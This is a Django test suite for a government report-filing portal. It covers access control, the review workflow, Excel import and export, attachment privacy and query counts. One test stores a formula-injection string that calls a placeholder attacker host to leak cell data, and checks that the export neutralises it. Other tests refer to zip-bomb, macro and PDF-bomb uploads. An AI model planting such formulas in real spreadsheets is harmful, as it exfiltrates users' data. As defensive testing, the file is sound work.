"""Views: permission matrix for every page and transition, the flows, locking, query counts."""

import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from reports import services
from reports.models import ExcelUpload, Notification, Obligation, ObligationStatus, ReportedValue
from tests import hostile
from tests.reports.factories import full_data
from tests.work import assert_checks_only, no_parsing

GET_PAGES = ["obligation_detail", "obligation_history", "obligation_excel"]


def _url(name, ob=None):
    return reverse(f"reports:{name}", args=[ob.pk] if ob is not None else [])


def _excel_upload(c, ob, content, name="f.xlsx"):
    """Upload a filled form: the request stores it, the reading task runs after the commit
    (eager Celery; captured here because the test transaction never commits). Returns the
    upload's page (its preview or problems), or the upload page when the file was refused."""
    from django.test import TestCase

    with TestCase.captureOnCommitCallbacks(execute=True):
        response = c.post(_url("obligation_excel_upload", ob), {"file": SimpleUploadedFile(name, content)})
    if response.status_code != 302:
        return response
    page = c.get(response["Location"])
    page.review_url = response["Location"]
    return page


def _approve(cycle, ob, reporter, planner):
    services.obligation_save_draft(obligation=ob, acting_user=reporter, version=ob.version, data=full_data(cycle))
    ob.refresh_from_db()
    services.obligation_submit(obligation=ob, acting_user=reporter)
    return services.obligation_approve(obligation=ob, acting_user=planner)


def _form_post(cycle, ob, *, version, value="12", submit=False):
    data = {
        "version": version,
        f"value_{cycle['t_sum'].pk}": value,
        f"note_{cycle['t_sum'].pk}": "",
        f"value_{cycle['t_avg'].pk}": "55,5",
        f"weight_{cycle['t_avg'].pk}": "3",
        f"task_status_{cycle['task'].pk}": "in_progress",
        f"task_account_{cycle['task'].pk}": "Đã tổ chức 02 lớp tập huấn",
        f"spent_{cycle['line'].pk}": "1.500.000",
        "results": "Thành lập mới 01 HTX",
        "difficulties": "",
        "proposals": "",
    }
    if submit:
        data["submit"] = "1"
    return data


class TestPermissionMatrix:
    @pytest.mark.parametrize("name", ["obligation_list", "notification_list", "review_list"])
    def test_lists_anonymous_redirect(self, client, name):
        response = client.get(_url(name))
        assert response.status_code == 302 and "/accounts/login/" in response["Location"]

    @pytest.mark.parametrize("name", ["obligation_list", "notification_list", "review_list"])
    def test_lists_no_role_forbidden(self, client_for, no_role_user, name):
        assert client_for(no_role_user).get(_url(name)).status_code == 403

    def test_review_list_needs_planner(self, client_for, reporter_a, leader, planner, cycle):
        assert client_for(reporter_a).get(_url("review_list")).status_code == 403
        assert client_for(leader).get(_url("review_list")).status_code == 403
        assert client_for(planner).get(_url("review_list")).status_code == 200

    @pytest.mark.parametrize("name", GET_PAGES + ["obligation_edit", "obligation_excel_upload"])
    def test_pages_anonymous_and_no_role(self, client, client_for, no_role_user, cycle, name):
        ob = cycle["ob_a"]
        response = client.get(_url(name, ob))
        assert response.status_code == 302 and "/accounts/login/" in response["Location"]
        assert client_for(no_role_user).get(_url(name, ob)).status_code == 403

    @pytest.mark.parametrize("name", GET_PAGES + ["obligation_edit", "obligation_excel_upload"])
    def test_pages_other_district_404(self, client_for, reporter_b, cycle, name):
        """A reporter of another district does not even learn the report exists."""
        assert client_for(reporter_b).get(_url(name, cycle["ob_a"])).status_code == 404

    @pytest.mark.parametrize("name", GET_PAGES)
    def test_pages_allowed(self, client_for, reporter_a, planner, leader, cycle, name):
        for user in (reporter_a, planner, leader):
            assert client_for(user).get(_url(name, cycle["ob_a"])).status_code == 200

    def test_edit_only_for_the_agency_reporters(self, client_for, reporter_a, planner, leader, planner_a, cycle):
        ob = cycle["ob_a"]
        assert client_for(reporter_a).get(_url("obligation_edit", ob)).status_code == 200
        assert client_for(reporter_a).get(_url("obligation_excel_upload", ob)).status_code == 200
        for user in (planner, leader, planner_a):
            assert client_for(user).get(_url("obligation_edit", ob)).status_code == 403
            assert client_for(user).post(_url("obligation_edit", ob), _form_post(cycle, ob, version=0)).status_code == 403
        assert not ReportedValue.objects.filter(obligation=ob).exists()

    def test_consolidation_page(self, client, client_for, planner, reporter_b, leader, cycle):
        cons = cycle["cons"]
        assert client.get(_url("consolidation", cons)).status_code == 302
        assert client_for(reporter_b).get(_url("consolidation", cons)).status_code == 404
        assert client_for(leader).get(_url("consolidation", cons)).status_code == 200
        assert client_for(leader).post(_url("consolidation", cons), {"version": 0}).status_code == 403
        assert client_for(planner).get(_url("consolidation", cons)).status_code == 200
        # A submission has no consolidation page.
        assert client_for(planner).get(_url("consolidation", cycle["ob_a"])).status_code == 404

    @pytest.mark.parametrize("name", ["obligation_return", "obligation_approve", "obligation_reopen", "obligation_remind"])
    def test_review_transitions(self, client, client_for, cycle, reporter_a, reporter_b, planner_a, leader, name):
        """Anonymous → login; other district → 404; the reporter, a planner of another agency and the leader → 403."""
        ob = cycle["ob_a"]
        services.obligation_save_draft(obligation=ob, acting_user=reporter_a, version=0, data=full_data(cycle))
        services.obligation_submit(obligation=ob, acting_user=reporter_a)
        url = _url(name, ob)
        assert client.post(url, {"reason": "x"}).status_code == 302 and "login" in client.post(url)["Location"]
        assert client_for(reporter_b).post(url, {"reason": "x"}).status_code == 404
        for user in (reporter_a, planner_a, leader):
            assert client_for(user).post(url, {"reason": "x"}).status_code == 403
        assert Obligation.objects.get(pk=ob.pk).status == ObligationStatus.SUBMITTED

    def test_reviewer_of_another_plan(self, client_for, cycle, reporter_a, province):
        """A planner who reviews another plan (another receiving agency in the same province)
        sees the report through the area but may neither review nor edit it."""
        from tests.directory.factories import AgencyFactory, UserFactory
        from tests.reports.factories import build_cycle

        other_receiver = AgencyFactory(unit=province, name="Sở Tài chính", kind="so")
        build_cycle(receiver=other_receiver, reporters=[cycle["ob_a"].agency])
        other_planner = UserFactory(agency=other_receiver, is_planner=True)
        ob = cycle["ob_a"]
        services.obligation_save_draft(obligation=ob, acting_user=reporter_a, version=0, data=full_data(cycle))
        services.obligation_submit(obligation=ob, acting_user=reporter_a)
        c = client_for(other_planner)
        assert c.get(_url("obligation_detail", ob)).status_code == 200
        assert ob not in c.get(_url("review_list")).context["inbox"]
        for name in ("obligation_approve", "obligation_return", "obligation_remind"):
            assert c.post(_url(name, ob), {"reason": "x"}).status_code == 403
        assert c.get(_url("obligation_edit", ob)).status_code == 403
        assert Obligation.objects.get(pk=ob.pk).status == ObligationStatus.SUBMITTED

    @pytest.mark.parametrize("name", ["obligation_submit", "attachment_add", "obligation_excel_upload", "consolidation",
                                      "obligation_edit"])
    def test_posts_anonymous_and_no_role(self, client, client_for, no_role_user, cycle, name):
        """Every write endpoint: anonymous → login, no portal role → 403, nothing written."""
        ob = cycle["cons"] if name == "consolidation" else cycle["ob_a"]
        response = client.post(_url(name, ob), {"version": 0})
        assert response.status_code == 302 and "/accounts/login/" in response["Location"]
        assert client_for(no_role_user).post(_url(name, ob), {"version": 0}).status_code == 403
        ob.refresh_from_db()
        assert ob.version == 0 and ob.status == ObligationStatus.NOT_STARTED

    def test_attachment_and_notification_endpoints_anonymous(self, client, cycle):
        ob = cycle["ob_a"]
        for url in (reverse("reports:attachment_download", args=[ob.pk, 1]),
                    reverse("reports:notification_open", args=[1])):
            response = client.post(url) if "notifications" in url else client.get(url)
            assert response.status_code == 302 and "/accounts/login/" in response["Location"]

    def test_submit_transition_permissions(self, client_for, cycle, reporter_b, planner, leader):
        url = _url("obligation_submit", cycle["ob_a"])
        assert client_for(reporter_b).post(url).status_code == 404
        assert client_for(planner).post(url).status_code == 403
        assert client_for(leader).post(url).status_code == 403


class TestFlows:
    def test_fill_save_and_submit(self, client_for, reporter_a, cycle):
        """Vietnamese number input is read ("1.500.000", "55,5"); save then submit."""
        ob = cycle["ob_a"]
        c = client_for(reporter_a)
        response = c.post(_url("obligation_edit", ob), _form_post(cycle, ob, version=0))
        assert response.status_code == 302
        ob.refresh_from_db()
        assert ob.status == ObligationStatus.DRAFT and ob.version == 1
        assert ob.values.get(target=cycle["t_avg"]).value == Decimal("55.5")
        assert ob.spending.get().amount == Decimal("1500000")
        response = c.post(_url("obligation_edit", ob), _form_post(cycle, ob, version=1, submit=True))
        # Saved, then the confirmation page of the submission (issue 15): not submitted yet.
        assert response["Location"] == _url("obligation_submit", ob)
        ob.refresh_from_db()
        assert ob.status == ObligationStatus.DRAFT and ob.version == 2
        response = c.post(_url("obligation_submit", ob), {"confirmed": "1"})
        ob.refresh_from_db()
        assert ob.status == ObligationStatus.SUBMITTED
        assert response["Location"] == ob.get_absolute_url()

    def test_stale_save_shows_both_versions(self, client_for, reporter_a, cycle, agency_a):
        """The second editor gets 409, a clear Vietnamese message, and the saved value beside theirs."""
        from tests.directory.factories import UserFactory

        other = UserFactory(agency=agency_a, is_reporter=True)
        ob = cycle["ob_a"]
        theirs = _form_post(cycle, ob, version=0, value="7")
        theirs[f"spent_{cycle['line'].pk}"] = "2.000.000"
        client_for(other).post(_url("obligation_edit", ob), theirs)
        response = client_for(reporter_a).post(_url("obligation_edit", ob), _form_post(cycle, ob, version=0, value="12"),
                                               HTTP_ACCEPT_LANGUAGE="vi")
        assert response.status_code == 409
        body = response.content.decode()
        assert "Phiên bản đã lưu" in body or "Saved version" in body
        assert 'value="12"' in body  # what this editor typed is kept
        assert "2.000.000" in body and 'value="1.500.000"' in body  # saved spending beside the typed one
        assert ob.values.get(target=cycle["t_sum"]).value == Decimal("7")

    def test_submit_incomplete_keeps_draft(self, client_for, reporter_a, cycle):
        ob = cycle["ob_a"]
        data = _form_post(cycle, ob, version=0, submit=True)
        data["results"] = ""
        response = client_for(reporter_a).post(_url("obligation_edit", ob), data, follow=True)
        ob.refresh_from_db()
        assert ob.status == ObligationStatus.DRAFT
        assert len(list(response.context["messages"])) >= 2

    def test_bad_number_is_a_form_error(self, client_for, reporter_a, cycle):
        ob = cycle["ob_a"]
        data = _form_post(cycle, ob, version=0, value="mười hai")
        response = client_for(reporter_a).post(_url("obligation_edit", ob), data)
        assert response.status_code == 200 and response.context["form"].errors
        assert not ReportedValue.objects.filter(obligation=ob).exists()

    def test_return_approve_reopen_by_reviewer(self, client_for, reporter_a, planner, cycle):
        ob = cycle["ob_a"]
        services.obligation_save_draft(obligation=ob, acting_user=reporter_a, version=0, data=full_data(cycle))
        services.obligation_submit(obligation=ob, acting_user=reporter_a)
        c = client_for(planner)
        assert c.get(_url("review_list")).context["inbox"] == [ob]
        c.post(_url("obligation_return", ob), {"reason": "", "fields": [], "confirmed": "1"})
        assert Obligation.objects.get(pk=ob.pk).status == ObligationStatus.SUBMITTED
        c.post(_url("obligation_return", ob), {"reason": "Kiểm tra lại", "fields": [f"target:{cycle['t_sum'].pk}"],
                                               "confirmed": "1"})
        ob.refresh_from_db()
        assert ob.status == ObligationStatus.RETURNED and ob.return_fields == [f"target:{cycle['t_sum'].pk}"]
        page = client_for(reporter_a).get(_url("obligation_detail", ob)).content.decode()
        assert "Kiểm tra lại" in page and "table-danger" in page
        services.obligation_submit(obligation=ob, acting_user=reporter_a)
        c.post(_url("obligation_approve", ob), {"confirmed": "1"})
        assert Obligation.objects.get(pk=ob.pk).status == ObligationStatus.APPROVED
        c.post(_url("obligation_reopen", ob), {"reason": "Sửa số liệu", "confirmed": "1"})
        assert Obligation.objects.get(pk=ob.pk).status == ObligationStatus.RETURNED

    def test_history_page_lists_changes(self, client_for, reporter_a, planner, cycle):
        ob = _approve(cycle, cycle["ob_a"], reporter_a, planner)
        page = client_for(planner).get(_url("obligation_history", ob)).content.decode()
        assert "Số HTX nông nghiệp" in page and str(reporter_a) in page and str(planner) in page

    def test_consolidation_build_view(self, client_for, reporter_a, reporter_b, planner, cycle):
        _approve(cycle, cycle["ob_a"], reporter_a, planner)
        _approve(cycle, cycle["ob_b"], reporter_b, planner)
        cons = cycle["cons"]
        response = client_for(planner).post(_url("consolidation", cons), {"version": 0})
        assert response.status_code == 302
        assert ReportedValue.objects.get(obligation=cons, target=cycle["t_sum"]).value == Decimal("20")
        page = client_for(planner).get(_url("consolidation", cons))
        assert page.status_code == 200 and len(page.context["compliance"]) == 2

    def test_notifications(self, client_for, reporter_a, planner, cycle):
        services.obligation_save_draft(obligation=cycle["ob_a"], acting_user=reporter_a, version=0, data=full_data(cycle))
        services.obligation_submit(obligation=cycle["ob_a"], acting_user=reporter_a)
        c = client_for(planner)
        page = c.get(_url("notification_list"))
        assert page.status_code == 200 and page.context["unread_notifications"] == 1
        note = Notification.objects.get(user=planner)
        response = c.post(reverse("reports:notification_open", args=[note.pk]))
        assert response["Location"] == cycle["ob_a"].get_absolute_url()
        assert Notification.objects.get(pk=note.pk).read_at is not None
        # Someone else's notification is 404.
        assert client_for(reporter_a).post(reverse("reports:notification_open", args=[note.pk])).status_code == 404

    def test_attachments(self, client_for, reporter_a, reporter_b, cycle):
        ob = cycle["ob_a"]
        c = client_for(reporter_a)
        c.post(_url("attachment_add", ob), {"file": SimpleUploadedFile("anh.png", b"\x89PNG\r\n\x1a\nxxxx")})
        att = ob.attachments.get()
        url = reverse("reports:attachment_download", args=[ob.pk, att.pk])
        response = c.get(url)
        assert response.status_code == 200 and b"".join(response.streaming_content).startswith(b"\x89PNG")
        assert client_for(reporter_b).get(url).status_code == 404
        response = c.post(_url("attachment_add", ob), {"file": SimpleUploadedFile("virus.png", b"MZ....")}, follow=True)
        assert ob.attachments.count() == 1
        c.post(reverse("reports:attachment_delete", args=[ob.pk, att.pk]))
        assert not ob.attachments.exists()

    def test_excel_round_trip(self, client_for, reporter_a, cycle):
        """Download the form, fill it, upload: preview first, save only on confirmation."""
        ob = cycle["ob_a"]
        c = client_for(reporter_a)
        wb = load_workbook(io.BytesIO(c.get(_url("obligation_excel", ob)).content))
        ws = wb["Chi tieu"]
        for row in ws.iter_rows(min_row=2):
            row[5].value = 13 if row[0].value == cycle["t_sum"].pk else "62,5"
        wb["Nhiem vu"].cell(row=2, column=3).value = "Đang thực hiện"
        wb["Kinh phi"].cell(row=2, column=4).value = 2000000
        wb["Thuyet minh"].cell(row=2, column=3).value = "Kết quả từ Excel"
        buf = io.BytesIO()
        wb.save(buf)
        response = _excel_upload(c, ob, buf.getvalue())
        assert response.status_code == 200, response.context.get("problems")
        assert not response.context.get("problems"), response.context["problems"]
        assert response.context["parsed"] and response.context["preview"]
        assert not ReportedValue.objects.filter(obligation=ob).exists()
        assert "reports_excel_upload" not in dict(c.session)  # kept in the database, not the session
        response = c.post(response.review_url, {"action": "confirm"})
        assert response.status_code == 302
        ob.refresh_from_db()
        assert ob.values.get(target=cycle["t_sum"]).value == Decimal("13")
        assert ob.values.get(target=cycle["t_avg"]).value == Decimal("62.5")
        assert ob.results == "Kết quả từ Excel" and ob.task_progress.get().status == "in_progress"

    def test_excel_form_keeps_hostile_text_as_text(self, client_for, reporter_a, cycle):
        """A saved note "=HYPERLINK(…)" is a string cell in the form and reads back unchanged."""
        ob = cycle["ob_a"]
        hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")'
        Obligation.objects.filter(pk=ob.pk).update(results=hostile, proposals="+84 1+1")
        c = client_for(reporter_a)
        content = c.get(_url("obligation_excel", ob)).content
        wb = load_workbook(io.BytesIO(content))
        assert not [cell for ws in wb for row in ws.iter_rows() for cell in row if cell.data_type == "f"]
        texts = {row[0].value: row[2] for row in wb["Thuyet minh"].iter_rows(min_row=2)}
        assert texts["results"].value == hostile and texts["results"].data_type == "s" and texts["results"].quotePrefix
        assert texts["proposals"].value == "+84 1+1"
        response = _excel_upload(c, ob, content)
        assert response.status_code == 200 and not response.context.get("problems")
        assert c.post(response.review_url, {"action": "confirm"}).status_code == 302
        ob.refresh_from_db()
        assert ob.results == hostile and ob.proposals == "+84 1+1"

    def test_excel_bad_upload(self, client_for, reporter_a, cycle):
        ob = cycle["ob_a"]
        c = client_for(reporter_a)
        response = _excel_upload(c, ob, b"not excel")
        assert response.status_code == 200 and response.context["form"].errors["file"]
        other = c.get(_url("obligation_excel", cycle["ob_a"])).content
        wb = load_workbook(io.BytesIO(other))
        wb["Chi tieu"].cell(row=2, column=6).value = "abc"
        buf = io.BytesIO()
        wb.save(buf)
        response = _excel_upload(c, ob, buf.getvalue())
        assert response.context["problems"] and not response.context.get("parsed")
        assert c.post(response.review_url, {"action": "confirm"}).status_code == 302
        assert not ReportedValue.objects.filter(obligation=ob).exists()


class TestHostileUploads:
    """Issue 12: every hostile file is answered with a message, never a 500, without a parser
    opening it in the request (tests/work.py)."""

    @pytest.mark.parametrize(
        "make",
        [lambda: hostile.zip_bomb("xlsx"), hostile.million_row_xlsx, hostile.macro_xlsx, hostile.real_docx,
         lambda: hostile.zip_bomb("docx")],
        ids=["zip_bomb", "million_rows", "macros", "docx_renamed", "docx_bomb"],
    )
    def test_excel_form_upload(self, client_for, reporter_a, cycle, make):
        ob = cycle["ob_a"]
        c = client_for(reporter_a)
        data = make()
        with no_parsing() as work:
            response = c.post(_url("obligation_excel_upload", ob), {"file": SimpleUploadedFile("f.xlsx", data)})
        assert_checks_only(work)
        assert response.status_code == 200 and response.context["form"].errors["file"]
        assert not ExcelUpload.objects.exists()

    def test_excel_form_row_limit(self, client_for, reporter_a, cycle, settings):
        """A form that passes the file checks but has more rows than any report is refused."""
        settings.REPORT_FORM_MAX_ROWS = 50
        ob = cycle["ob_a"]
        c = client_for(reporter_a)
        wb = load_workbook(io.BytesIO(c.get(_url("obligation_excel", ob)).content))
        for i in range(60):
            wb["Nhiem vu"].append([None, f"dòng {i}"])
        buf = io.BytesIO()
        wb.save(buf)
        response = _excel_upload(c, ob, buf.getvalue())
        assert response.status_code == 200 and response.context["problems"]
        assert "50" in response.context["problems"][0] and not response.context.get("parsed")

    def test_attachment_upload_and_download_are_private(self, client_for, reporter_a, reporter_b, cycle, client, settings):
        ob = cycle["ob_a"]
        c = client_for(reporter_a)
        c.post(_url("attachment_add", ob), {"file": SimpleUploadedFile("bao-cao <q1>.pdf", hostile.real_pdf())})
        att = ob.attachments.get()
        assert "bao-cao" not in att.file.name
        # Not under the public media root: a DEBUG server's /media/ cannot serve it.
        from pathlib import Path

        assert not (Path(settings.MEDIA_ROOT) / att.file.name).exists()
        url = reverse("reports:attachment_download", args=[ob.pk, att.pk])
        response = c.get(url)
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["X-Content-Type-Options"] == "nosniff"
        # Read it, but not response.close(): that sends request_finished, which closes the test's
        # database connection on PostgreSQL.
        assert b"".join(response.streaming_content).startswith(b"%PDF")
        assert client_for(reporter_b).get(url).status_code == 404
        assert client.get(url).status_code == 302  # anonymous: to the login page
        # Refused by the upload check before any parsing (the 5 s answer it buys is measured in
        # docs/security.md, not timed here: a timed assertion failed on a loaded CI machine).
        response = c.post(_url("attachment_add", ob), {"file": SimpleUploadedFile("bom.pdf", hostile.pdf_bomb())}, follow=True)
        assert response.status_code == 200
        assert "nội dung giải nén vượt quá" in response.content.decode()
        assert ob.attachments.count() == 1


LOCKED_MESSAGE = gettext_lazy("This report is approved and locked. A reviewer may reopen it with a reason.")


class TestLockedViews:
    """Locked means locked: every view and the admin refuse to change an approved report."""

    def test_views_refuse(self, client_for, reporter_a, planner, cycle):
        ob = _approve(cycle, cycle["ob_a"], reporter_a, planner)
        c = client_for(reporter_a)
        # The agency's own reporter is sent back to the report with the reason, not a bare 403.
        r = c.get(_url("obligation_edit", ob), follow=True)
        assert r.redirect_chain == [(ob.get_absolute_url(), 302)]
        assert [str(m) for m in r.context["messages"]] == [str(LOCKED_MESSAGE)]
        r = c.post(_url("obligation_edit", ob), _form_post(cycle, ob, version=ob.version, value="99"), follow=True)
        assert r.redirect_chain == [(ob.get_absolute_url(), 302)]
        assert [str(m) for m in r.context["messages"]] == [str(LOCKED_MESSAGE)]
        # Anyone else still gets a 403.
        assert client_for(planner).post(_url("obligation_edit", ob), {}).status_code == 403
        assert c.post(_url("obligation_submit", ob)).status_code == 403
        assert c.get(_url("obligation_excel_upload", ob)).status_code == 403
        assert c.post(_url("attachment_add", ob), {"file": SimpleUploadedFile("a.pdf", b"%PDF-1.4")}).status_code == 403
        assert client_for(planner).post(_url("obligation_return", ob), {"reason": "x"}).status_code == 302
        assert Obligation.objects.get(pk=ob.pk).status == ObligationStatus.APPROVED
        assert ob.values.get(target=cycle["t_sum"]).value == Decimal("10")

    def test_form_class_cannot_save_either(self, cycle, reporter_a, planner):
        """Even a valid form goes through the service, which refuses."""
        from django.core.exceptions import ValidationError

        from reports.forms import ObligationForm
        from reports.selectors import form_lines

        ob = _approve(cycle, cycle["ob_a"], reporter_a, planner)
        form = ObligationForm(_form_post(cycle, ob, version=ob.version), lines=form_lines(ob), obligation=ob)
        assert form.is_valid()
        with pytest.raises(ValidationError):
            services.obligation_save_draft(obligation=ob, acting_user=reporter_a, version=ob.version, data=form.service_data())

    def test_admin_read_only(self, client_for, admin_user, reporter_a, planner, cycle):
        ob = _approve(cycle, cycle["ob_a"], reporter_a, planner)
        c = client_for(admin_user)
        url = reverse("admin:reports_obligation_change", args=[ob.pk])
        page = c.get(url)
        assert page.status_code == 200 and not page.context["has_change_permission"]
        c.post(url, {"results": "changed"})
        assert Obligation.objects.get(pk=ob.pk).results == "Đã thành lập mới 01 HTX."
        assert c.post(reverse("admin:reports_obligation_delete", args=[ob.pk]), {"post": "yes"}).status_code == 403
        value = ob.values.first()
        vurl = reverse("admin:reports_reportedvalue_change", args=[value.pk])
        c.post(vurl, {"obligation": ob.pk, "target": value.target_id, "value": "99"})
        assert ReportedValue.objects.get(pk=value.pk).value == Decimal("10")
        # An open report stays editable in the admin.
        assert c.get(reverse("admin:reports_obligation_change", args=[cycle["ob_b"].pk])).context["has_change_permission"]


class TestQueryCounts:
    def test_list_constant(self, client_for, planner, cycle, django_assert_max_num_queries, province_agency, agency_a):
        c = client_for(planner)
        c.get(_url("obligation_list"))
        with django_assert_max_num_queries(14):
            assert c.get(_url("obligation_list")).status_code == 200
        from tests.reports.factories import build_cycle

        more = build_cycle(receiver=province_agency, reporters=[agency_a])
        services.obligations_generate(plan=more["plan"])
        with django_assert_max_num_queries(14):
            response = c.get(_url("obligation_list"))
        assert len(response.context["object_list"]) == 40

    def test_detail_and_review(self, client_for, planner, reporter_a, cycle, django_assert_max_num_queries):
        _approve(cycle, cycle["ob_a"], reporter_a, planner)
        c = client_for(planner)
        with django_assert_max_num_queries(30):
            assert c.get(_url("obligation_detail", cycle["ob_a"])).status_code == 200
        with django_assert_max_num_queries(12):
            assert c.get(_url("review_list")).status_code == 200
        with django_assert_max_num_queries(30):
            assert c.get(_url("consolidation", cycle["cons"])).status_code == 200

    def test_home_panels_and_schedule(self, client_for, reporter_a, planner, cycle, django_assert_max_num_queries):
        from django.template.loader import render_to_string

        assert client_for(reporter_a).get(reverse("home")).status_code == 200
        assert client_for(planner).get(reverse("home")).status_code == 200
        with django_assert_max_num_queries(3):
            html = render_to_string("reports/partials/plan_schedule.html", {"plan": cycle["plan"]})
        assert "Quý IV/2025" in html and "25/12/2025" in html


class TestPlanGenerate:
    def test_permissions_and_generation(self, client, client_for, province_agency, agency_a, agency_b, planner, reporter_a,
                                        leader):
        """Issuer's planner → periods created; anonymous → login; reporter/leader → 403; other district → 404."""
        from tests.directory.factories import UserFactory
        from tests.reports.factories import build_cycle

        data = build_cycle(receiver=province_agency, reporters=[agency_a])
        url = reverse("reports:plan_generate", args=[data["plan"].pk])
        assert client.post(url).status_code == 302 and not Obligation.objects.exists()
        assert client_for(reporter_a).post(url).status_code == 403
        assert client_for(leader).post(url).status_code == 403
        other = UserFactory(agency=agency_b, is_planner=True)
        assert client_for(other).post(url).status_code == 404
        assert not Obligation.objects.exists()
        response = client_for(planner).post(url, follow=True)
        assert response.status_code == 200 and Obligation.objects.count() == 16
        client_for(planner).post(url)
        assert Obligation.objects.count() == 16
